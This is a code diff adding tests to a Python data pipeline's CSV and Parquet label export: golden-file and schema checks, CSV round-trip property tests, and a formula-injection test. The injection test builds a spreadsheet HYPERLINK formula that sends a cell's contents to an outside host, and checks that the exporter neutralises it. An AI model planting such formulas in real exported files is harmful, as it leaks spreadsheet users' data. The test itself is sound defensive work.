@@ -2,11 +2,14 @@
 
 import csv
 import json
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
+from tempfile import TemporaryDirectory
 from typing import Any
 
 import numpy as np
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from hypothesis import given
@@ -15,10 +18,11 @@ from hypothesis import strategies as st
 from pipeline.collection import CollectionRow
 from pipeline.datasets.lake import Lake, as_table, open_lake
 from pipeline.datasets.run import Run
-from pipeline.datasets.schemas import SCHEMAS
+from pipeline.datasets.schemas import SCHEMAS, features_schema
 from pipeline.domain.annotation import annotation_errors
 from pipeline.domain.scope import Scope, Selection
 from pipeline.errors import PoisonedResultError
+from pipeline.reporting import exports
 from pipeline.reporting.exports import annotation_document, write_exports
 from pipeline.reporting.metrics import average_precision, calibration_error, evaluate
 from pipeline.reporting.truth import label_row
@@ -219,6 +223,61 @@ def test_the_label_table_has_the_agreed_columns_and_leaves_out_what_was_dropped(
     assert rows[1]["label_nl"] == "Old map"
     assert len(rows) == 2
     assert pq.read_table(folder / "labels.parquet").num_rows == 3
+
+
+GOLDEN = Path(__file__).parent / "golden"
+
+
+def test_the_label_table_is_byte_for_byte_the_one_that_was_agreed(tmp_path: Path, vocabulary: Vocabulary) -> None:
+    labels = [
+        label("/1/a", "painting", "http://data.europeana.eu/concept/47", "publish", 0.98766),
+        label("/1/a", "map", "http://vocab.getty.edu/aat/1", "review", 0.5) | {"image_url": 'http://x.org/"größe",1.jpg'},
+        label("/1/b", "map", "http://vocab.getty.edu/aat/1", "hidden", 0.0001),
+    ]
+    folder = exported(tmp_path, vocabulary, labels=labels, label_language="en,nl")
+    assert (folder / "labels.csv").read_bytes() == (GOLDEN / "labels.csv").read_bytes()
+
+
+def test_the_schemas_are_those_that_were_published() -> None:
+    """A change of columns changes golden/schemas.txt, raises the schema's version and is told in docs/labels.md."""
+    schemas = {**SCHEMAS, "features (of a model of 2 concepts, 4 numbers wide)": features_schema(4, concepts=2)}
+    lines = [
+        f"{dataset} {(schema.metadata or {})[b'schema_version'].decode()}\n"
+        + "".join(f"  {field.name}: {field.type}{'' if field.nullable else ' not null'}\n" for field in schema)
+        for dataset, schema in sorted(schemas.items())
+        if dataset.startswith(("labels", "record_labels", "features", "score_histograms", "outcomes"))
+    ]
+    assert "".join(lines) == (GOLDEN / "schemas.txt").read_text()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_cell_is_taken_for_a_formula_by_a_spreadsheet(tmp_path: Path, vocabulary: Vocabulary, start: str) -> None:
+    evil = f'{start}HYPERLINK("http://x.org?"&A1;"prize")'
+    row = label("/1/a", "map", "urn:map", "hidden", 0.1) | {"image_url": evil}
+    vocabulary = Vocabulary(
+        vocabulary.version,
+        tuple(replace(one, labels={"en": evil}) if one.slug == "map" else one for one in vocabulary.concepts),
+    )
+    with (exported(tmp_path, vocabulary, labels=[row]) / "labels.csv").open(encoding="utf-8", newline="") as handle:
+        (read,) = csv.DictReader(handle)
+    assert read["URL"].replace("\r\n", "\n") == read["label_en"].replace("\r\n", "\n") == f"'{evil}".replace("\r\n", "\n")
+    assert (read["ID"], read["skos_concept"]) == ("/1/a", "urn:map")
+
+
+@given(st.lists(st.tuples(st.text(), st.floats(0, 1, width=32)), max_size=20))
+def test_every_reader_of_rfc_4180_gets_back_what_was_written(rows: list[tuple[str, float]]) -> None:
+    with TemporaryDirectory() as name:
+        path = Path(name) / "some.csv"
+        texts = pa.array([text for text, _ in rows], pa.string())
+        exports._write_csv(
+            path, iter([pa.table({"text": texts, "score": pa.array([score for _, score in rows], pa.float64())})])
+        )
+        content = path.read_bytes()
+        with path.open(encoding="utf-8", newline="") as handle:
+            read = list(csv.reader(handle))
+    assert content.endswith(b"\r\n") and content.count(b"\n") == content.count(b"\r\n")
+    assert [text for text, _ in read[1:]] == [text.replace("\n", "\r\n") for text, _ in rows]
+    assert [float(score) for _, score in read[1:]] == [score for _, score in rows]
 
 
 def test_every_file_states_the_licence_and_an_empty_run_still_has_headers(tmp_path: Path, vocabulary: Vocabulary) -> None:
